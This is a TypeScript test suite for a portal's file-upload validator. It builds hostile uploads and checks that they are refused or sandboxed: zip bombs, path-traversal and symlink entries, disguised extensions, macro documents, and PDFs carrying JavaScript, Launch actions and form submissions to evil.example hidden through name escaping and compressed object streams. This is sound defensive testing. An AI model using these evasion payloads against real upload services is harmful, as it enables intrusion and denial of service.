import { randomBytes } from 'node:crypto'
import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { type RefusalReason, sentence } from '@portal/shared/text/refusals.ts'
import { MAX_UPLOAD_BYTES } from '@portal/shared/uploads/rules.ts'
import { expect, test } from 'vitest'
import {
  compound,
  docx,
  oneOfEach,
  pdf,
  picture,
  sendUpload,
  type TestFile,
  xlsx,
} from '#test/build-attachments.ts'
import { buildZip } from '#test/build-zip.ts'
import { openUploads } from '#test/open-uploads.ts'

const files = await oneOfEach()

const zeros = deflateRawSync(Buffer.alloc(67_108_864), { finishFlush: constants.Z_FULL_FLUSH })
const lastBlock = Buffer.from([0x03, 0x00])
/** Two and a half gigabytes of nothing in two and a half megabytes. */
const half = Buffer.concat([...Array.from({ length: 38 }, () => zeros), lastBlock])
const bomb = (claims: number) =>
  buildZip(['a.txt', 'b.txt'].map((name) => ({ name, raw: { bytes: half, claims } })))
const honestBomb = bomb(38 * 67_108_864)
const lyingBomb = bomb(MAX_UPLOAD_BYTES)

const external =
  '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
const script = '3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj'
const hidden = deflateSync(Buffer.from(script))
const hiddenScript = pdf(
  `4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${hidden.length}>>\nstream\n${hidden.toString('latin1')}\nendstream\nendobj`,
)
/** A stream of compressed objects, described in any way. */
const objects = (
  text: string,
  description = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
  pack: (bytes: Buffer) => Buffer = deflateSync,
) => {
  const packed = pack(Buffer.from(text, 'latin1'))
  return `4 0 obj\n<<${description}/Length ${packed.length}>>\nstream\n${packed.toString('latin1')}\nendstream\nendobj`
}
const hexed = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`)
const inPdf = (what: string, more: string): (typeof attacks)[number] => [
  `${what} in a PDF`,
  { name: 'a.pdf', bytes: pdf(more) },
  'upload-active-content',
]
const goes = (action: string) => `3 0 obj\n<<${action}>>\nendobj`
const opens = (action: string) => `5 0 obj\n<</Type/Catalog/OpenAction ${action}>>\nendobj`

const manyEntries = Array.from({ length: 10_000 }, (_, index) => ({ name: `${index}.txt`, data: 'x' }))
const inZip = (...entries: Parameters<typeof buildZip>[0]) => buildZip(entries)

const attacks: [what: string, file: TestFile, reason: RefusalReason][] = [
  ['an ending that is not allowed', { name: 'a.exe', bytes: files.txt }, 'upload-kind'],
  ['a picture that can run scripts', { name: 'a.svg', bytes: Buffer.from('<svg/>') }, 'upload-kind'],
  ['no ending', { name: 'Makefile', bytes: files.txt }, 'upload-kind'],
  ['an ending turned round', { name: 'a\u202etxt.exe', bytes: files.txt }, 'upload-kind'],
  ['an ending behind a NUL', { name: 'a.txt\0.exe', bytes: files.txt }, 'upload-kind'],
  ['nothing', { name: 'a.txt', bytes: Buffer.alloc(0) }, 'upload-empty'],
  ['another declared type', { name: 'a.pdf', bytes: files.pdf, type: 'text/html' }, 'upload-mismatch'],
  ['an SVG named .png', { name: 'a.png', bytes: Buffer.from('<svg/>') }, 'upload-mismatch'],
  ['a page named .txt', { name: 'a.txt', bytes: Buffer.from('\n<!DOCTYPE html><p>') }, 'upload-mismatch'],
  [
    'a page before a PDF',
    { name: 'a.pdf', bytes: Buffer.concat([Buffer.from('<html>'), pdf()]) },
    'upload-mismatch',
  ],
  ['a program named .zip', { name: 'a.zip', bytes: Buffer.from('MZ\x90\0') }, 'upload-mismatch'],
  ['a program named .rtc', { name: 'a.rtc', bytes: Buffer.from('4d5a90000300', 'hex') }, 'upload-mismatch'],
  ['a PNG named .jpg', { name: 'a.jpg', bytes: files.png }, 'upload-mismatch'],
  ['a text with NUL', { name: 'a.txt', bytes: Buffer.from('a\0b') }, 'upload-mismatch'],
  ['a text in no encoding', { name: 'a.txt', bytes: Buffer.from([0x41, 0x81, 0x8d]) }, 'upload-mismatch'],
  ['half a picture', { name: 'a.png', bytes: files.png.subarray(0, 60) }, 'upload-damaged'],
  [
    'a picture of unheard size',
    { name: 'a.png', bytes: await picture('png', 10_000, 5001) },
    'upload-too-many-pixels',
  ],
  ['a bomb of 5 GB that says so', { name: 'a.zip', bytes: honestBomb }, 'upload-unsafe-archive'],
  ['a bomb of 5 GB that says nothing', { name: 'a.zip', bytes: lyingBomb }, 'upload-unsafe-archive'],
  ['ten thousand entries', { name: 'a.zip', bytes: buildZip(manyEntries) }, 'upload-unsafe-archive'],
  [
    'an archive in an archive',
    { name: 'a.zip', bytes: inZip({ name: 'b.zip', data: files.zip }) },
    'upload-unsafe-archive',
  ],
  [
    'a disguised archive in an archive',
    { name: 'a.zip', bytes: inZip({ name: 'b.txt', data: files.zip }) },
    'upload-unsafe-archive',
  ],
  [
    'a program in an archive',
    { name: 'a.zip', bytes: inZip({ name: 'b.exe', data: 'x' }) },
    'upload-unsafe-archive',
  ],
  [
    'a way out of the folder',
    { name: 'a.zip', bytes: inZip({ name: '../b.txt', data: 'x' }) },
    'upload-unsafe-archive',
  ],
  [
    'an absolute way',
    { name: 'a.zip', bytes: inZip({ name: '/etc/b.txt', data: 'x' }) },
    'upload-unsafe-archive',
  ],
  [
    'a way to a drive',
    { name: 'a.zip', bytes: inZip({ name: 'C:/b.txt', data: 'x' }) },
    'upload-unsafe-archive',
  ],
  [
    'a link',
    { name: 'a.zip', bytes: inZip({ name: 'b.txt', data: '/etc/passwd', link: true }) },
    'upload-unsafe-archive',
  ],
  [
    'a locked archive',
    { name: 'a.zip', bytes: inZip({ name: 'b.txt', data: 'x', encrypted: true }) },
    'upload-locked',
  ],
  ['half an archive', { name: 'a.zip', bytes: files.zip.subarray(0, 40) }, 'upload-damaged'],
  ['an archive named .docx', { name: 'a.docx', bytes: files.zip }, 'upload-mismatch'],
  ['a sheet named .docx', { name: 'a.docx', bytes: xlsx() }, 'upload-mismatch'],
  ['macros', { name: 'a.docx', bytes: docx({ 'word/vbaProject.bin': 'x' }) }, 'upload-active-content'],
  [
    'a template from elsewhere',
    { name: 'a.docx', bytes: docx({ 'word/_rels/settings.xml.rels': external }) },
    'upload-active-content',
  ],
  [
    'another program in a sheet',
    { name: 'a.xlsx', bytes: xlsx({ 'xl/embeddings/oleObject1.bin': 'x' }) },
    'upload-active-content',
  ],
  [
    'a bomb as a document',
    { name: 'a.docx', bytes: docx({ 'word/x.xml': Buffer.alloc(50_000_000) }) },
    'upload-unsafe-archive',
  ],
  ['a sheet named .doc', { name: 'a.doc', bytes: compound('Workbook') }, 'upload-mismatch'],
  ['old macros', { name: 'a.doc', bytes: compound('WordDocument', '_VBA_PROJECT') }, 'upload-active-content'],
  [
    'a locked document',
    { name: 'a.doc', bytes: compound('WordDocument', 'EncryptedPackage') },
    'upload-locked',
  ],
  [
    'an object in rich text',
    { name: 'a.rtf', bytes: Buffer.from('{\\rtf1{\\object\\objdata 00}}') },
    'upload-active-content',
  ],
  ['a script in a PDF', { name: 'a.pdf', bytes: pdf(script) }, 'upload-active-content'],
  [
    'a script under a spelt name',
    { name: 'a.pdf', bytes: pdf(script.replace('Java', '#4aava')) },
    'upload-active-content',
  ],
  ['a script in compressed objects', { name: 'a.pdf', bytes: hiddenScript }, 'upload-active-content'],
  [
    'a program in a PDF',
    { name: 'a.pdf', bytes: pdf('3 0 obj\n<</S/Launch/F(x.exe)>>\nendobj') },
    'upload-active-content',
  ],
  [
    'a file in a PDF',
    { name: 'a.pdf', bytes: pdf('3 0 obj\n<</Type/EmbeddedFile>>\nendobj') },
    'upload-active-content',
  ],
  ['a locked PDF', { name: 'a.pdf', bytes: pdf('3 0 obj\n<</Encrypt 4 0 R>>\nendobj') }, 'upload-locked'],
  inPdf('a form that sends itself', goes('/S/SubmitForm/F(https://evil.example)')),
  inPdf('a form that fetches data', goes('/S/ImportData/F(a.fdf)')),
  inPdf('a way into an embedded file', goes('/S/GoToE/F(a.pdf)')),
  inPdf('a medium that runs scripts', goes('/S/Rendition/JS(app.alert)')),
  inPdf('a form in XML', goes('/XFA [(a) 5 0 R]')),
  inPdf('an action of a page', goes('/AA<</O 5 0 R>>')),
  inPdf('an action of a page that stands elsewhere', goes('/AA % here\n 5 0 R')),
  inPdf('an address that is opened at once', opens('<</S/URI/URI(https://evil.example)>>')),
  inPdf('an address behind the first page', opens('<</S/GoTo/D[(>>)]/Next 6 0 R>>')),
  inPdf('an opening that stands elsewhere', `${opens('3 0 R')}\n${goes('/S/URI/URI(https://evil.example)')}`),
  inPdf('an opening that stands nowhere', opens('77 0 R')),
  inPdf('an opening under a spelt name', goes('/Open#41ction<</S/#55RI/URI(https://evil.example)>>')),
  inPdf('an opening in compressed objects', `${opens('9 0 R')}\n${objects('9 0 <</S/URI/URI(a)>>')}`),
  inPdf('a spelt name in compressed objects', objects('9 0 <</S/J#61vaScript>>')),
  inPdf('objects under a spelt name', objects(script, '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode')),
  inPdf('objects of an unnamed type', objects(script, '/Type 7 0 R/N 1/First 4/Filter/FlateDecode')),
  inPdf(
    'objects behind a long description',
    objects(script, `/Type/ObjStm/X(${'x'.repeat(3000)})/N 1/First 4/Filter/FlateDecode`),
  ),
  inPdf(
    'objects that are packed twice',
    objects(script, '/Type/ObjStm/First 4/Filter[/FlateDecode/FlateDecode]'),
  ),
  inPdf('objects in digits', objects(script, '/Type/ObjStm/First 4/Filter/ASCIIHexDecode', hexed)),
  inPdf(
    'objects that are turned round',
    objects(script, '/Type/ObjStm/First 4/DecodeParms<</Predictor 12>>/Filter/FlateDecode'),
  ),
  [
    'a PDF of 190,000 streams of objects',
    { name: 'a.pdf', bytes: pdf('/Type/ObjStm\nstream\nx'.repeat(190_000)) },
    'upload-too-many-parts',
  ],
  [
    'a PDF of 10,000 openings',
    { name: 'a.pdf', bytes: pdf('/OpenAction 1 0 R '.repeat(10_000)) },
    'upload-too-many-parts',
  ],
  [
    'a bomb of compressed objects',
    { name: 'a.pdf', bytes: pdf(objects(' '.repeat(40_000_000))) },
    'upload-too-many-parts',
  ],
  ['half a PDF', { name: 'a.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') }, 'upload-damaged'],
]
// Last, because making the files keeps the thread busy.
const { app, come, uploadNames, stored, keep, read } = await openUploads()

test.each(attacks)(
  'T40 [U5, U6, U7] %s is refused, and nothing is left of it',
  async (_what, file, reason) => {
    const before = [await uploadNames(), await stored()]
    const response = await sendUpload(app.url, (await come()).cookie, file)
    expect(await response.json()).toMatchObject({ detail: sentence(reason) })
    expect([await uploadNames(), await stored()]).toEqual(before)
  },
)

const first = '3 0 obj\n<</S/GoTo/D[1 0 R/Fit]>>\nendobj'
test.each([
  ['begins at a place', opens('[3 0 R /XYZ null null 0]')],
  ['begins by an action', opens('<</S/GoTo/D[3 0 R/Fit]>>')],
  ['begins by an action that stands elsewhere', `${opens('3 0 R')}\n${first}`],
  [
    'begins by an action in compressed objects',
    `${opens('9 0 R')}\n${objects('9 0 <</S/GoTo/D[1 0 R/Fit]>> 8 <</Next 5 0 R>>')}`,
  ],
  ['has contents and pictures', objects('<<>>', '/Filter[/ASCII85Decode/FlateDecode]')],
  [
    'has links and outlines',
    '3 0 obj\n<</S/URI/URI(https://example.org)>>\nendobj 4 0 obj\n<</First 5 0 R/Next 6 0 R>>\nendobj',
  ],
  ['has a table of its objects', objects('x', '/Type/XRef/DecodeParms<</Predictor 12>>/Filter/FlateDecode')],
])('[U7] a PDF that %s is kept', async (_what, more) => {
  await keep(await come(), { name: 'a.pdf', bytes: pdf(more) })
})

// In parts, so that no scanner takes the test for what it tests.
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD', 'ANTIVIRUS', 'TEST', 'FILE!$H+H*'].join('-')

test.each([
  ['the test file of virus scanners', { name: 'a.txt', bytes: Buffer.from(eicar) }],
  [
    'a page behind a PDF',
    { name: 'a.pdf', bytes: Buffer.concat([pdf(), Buffer.from('<script>1</script>')]) },
  ],
  ['a script that is plain text', { name: 'a.txt', bytes: Buffer.from('alert(1)') }],
])('T40 %s is kept, and can do nothing where it is sent', async (_what, file) => {
  const person = await come()
  const response = await read(person, await keep(person, file))
  expect(response.headers.get('content-disposition')).toMatch(/^attachment;/)
  expect(response.headers.get('content-security-policy')).toContain('sandbox')
})

test.each([
  [
    'relations',
    {
      name: 'a.docx',
      bytes: docx({ 'a.rels': '<Relationship '.repeat(70_000), 'filler.bin': randomBytes(20_000) }),
    },
  ],
  ['compressed objects', { name: 'a.pdf', bytes: pdf('/ObjStm'.repeat(700_000)) }],
])(
  'T40 a file of beginnings of %s holds nobody up',
  async (_what, file) => {
    const response = await sendUpload(app.url, (await come()).cookie, file)
    expect(response.status).toBe(200)
  },
  60_000,
)

test('T40 an address that no file can have is answered like any other that is unknown', async () => {
  const { cookie } = await come()
  for (const name of ['%00', 'a%00.pdf', '..%2f..%2fportal.json']) {
    const response = await fetch(`${app.url}/uploads/1/1/${name}`, { headers: { cookie } })
    expect([400, 404], name).toContain(response.status)
  }
})
